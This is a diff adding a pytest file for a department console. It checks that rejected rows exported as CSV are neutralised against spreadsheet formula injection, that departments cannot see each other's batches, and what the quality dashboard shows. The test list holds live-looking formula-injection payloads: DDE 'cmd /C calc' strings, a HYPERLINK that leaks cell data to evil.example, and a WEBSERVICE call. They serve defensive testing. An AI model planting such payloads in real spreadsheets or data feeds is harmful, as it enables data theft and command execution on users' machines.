@@ -1,0 +1,122 @@
+"""The department console's data pages: push history, rejected rows as a CSV neutralised against
+formula injection (LibreOffice- and Excel-style payloads), and the data-quality dashboard."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+
+import pytest
+from aiohttp.test_utils import TestClient
+
+from infra.formula import neutralise, starts_like_formula
+from models.catalogue import Department
+from models.ingest_batch import IngestBatch
+from tests.staff_support import make_staff, sign_in
+from tests.test_ingest_support import (
+    dept_key,
+    make_enterprises,
+    ndjson,
+    push_records,
+    record_row,
+)
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")',
+    '=WEBSERVICE("http://evil.example/")',
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\u3000=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_formula_becomes_plain_text(payload: str):
+    assert starts_like_formula(payload)
+    assert neutralise(payload) == "'" + payload and not starts_like_formula(neutralise(payload))
+
+
+def test_plain_text_is_left_alone():
+    assert neutralise("渝市监罚〔2024〕12号") == "渝市监罚〔2024〕12号"
+    assert neutralise("2024-03-15") == "2024-03-15"
+
+
+async def clerk_of(cli: TestClient, code: str = "samr") -> None:
+    await sign_in(cli, await make_staff(f"viewer.{code}", "dept_viewer", department_code=code))
+
+
+def parsed(body: bytes) -> list[list[str]]:
+    assert body.startswith("\ufeff".encode())  # Excel reads UTF-8 only with a BOM
+    return list(csv.reader(io.StringIO(body.decode()[1:])))
+
+
+async def test_rejected_rows_download_with_every_formula_neutralised(cli: TestClient):
+    samr = await Department.get(code="samr")
+    await IngestBatch.create(
+        public_id="B-FORMULA", department=samr, channel="api", status="done",
+        rows_received=len(PAYLOADS), rejected=len(PAYLOADS), started_at=datetime.now(UTC),
+        rejections_by_code={"formula_injection": len(PAYLOADS)},
+        rejected_rows=[{"line": i, "field": "summary", "code": "formula_injection", "message": p,
+                        "source_ref": p} for i, p in enumerate(PAYLOADS, 2)],
+    )  # fmt: skip
+    await clerk_of(cli)
+    page = await (await cli.get("/dept/pushes")).text()
+    assert "B-FORMULA" in page and "/dept/pushes/B-FORMULA/rejected.csv" in page
+    r = await cli.get("/dept/pushes/B-FORMULA/rejected.csv")
+    assert r.status == 200 and r.content_type == "text/csv"
+    assert "attachment" in r.headers["Content-Disposition"]
+    rows = parsed(await r.read())
+    assert rows[0] == ["行号", "字段", "原因代码", "原因", "来源编号"]
+    for row, payload in zip(rows[1:], PAYLOADS, strict=True):
+        assert row[3] == "'" + payload and row[4] == "'" + payload
+        assert not any(starts_like_formula(cell) for cell in row)
+
+
+async def test_a_real_push_keeps_its_rejected_rows_for_the_console(cli: TestClient):
+    (uscc,) = await make_enterprises(1)
+    key = await dept_key()
+    rows = [record_row(uscc, "OK-1"), record_row(uscc, "BAD-1", decision_date="2099-01-01"),
+            record_row(uscc, "=cmd|' /C calc'!A0")]  # fmt: skip
+    status, answer = await push_records(cli, key, ndjson(rows))
+    assert status == 200, answer
+    assert answer["counts"]["rejected"] == 2
+    await clerk_of(cli)
+    r = await cli.get(f"/dept/pushes/{answer['batch_id']}/rejected.csv")
+    lines = parsed(await r.read())[1:]
+    assert [line[0] for line in lines] == [str(x["line"]) for x in answer["rejected"]]
+    assert not any(starts_like_formula(cell) for line in lines for cell in line)
+
+
+async def test_another_departments_batch_is_not_found(cli: TestClient):
+    tax = await Department.get(code="tax")
+    await IngestBatch.create(public_id="B-TAX", department=tax, channel="api", status="done",
+                             started_at=datetime.now(UTC),
+                             rejected_rows=[{"line": 2, "code": "x", "message": "m"}])  # fmt: skip
+    await clerk_of(cli, "samr")
+    r = await cli.get("/dept/pushes/B-TAX/rejected.csv")
+    assert r.status == 404 and "未找到该推送批次" in await r.text()
+    assert "B-TAX" not in await (await cli.get("/dept/pushes")).text()
+
+
+async def test_the_quality_dashboard_shows_lateness_reasons_and_lagging_domains(cli: TestClient):
+    (uscc,) = await make_enterprises(1)
+    key = await dept_key()
+    rows = [record_row(uscc, "OK-1", decision_date="2025-01-06"),
+            record_row(uscc, "BAD-1", domain=99)]  # fmt: skip
+    status, answer = await push_records(cli, key, ndjson(rows))
+    assert status == 200, answer
+    await clerk_of(cli)
+    html = await (await cli.get("/dept/quality")).text()
+    assert "按月逾期推送占比" in html and "2025-01" in html and "<svg" in html
+    assert "拒收原因" in html and "从未推送" not in html.split("最近推送")[1][:80]
+    # 市场监管 (27) was just pushed; 药品监管 (33) also needs 市药监局, which never pushed.
+    lagging = html.split("滞后的领域")[1]
+    assert "33. 药品监管" in lagging and "27. 市场监管" not in lagging
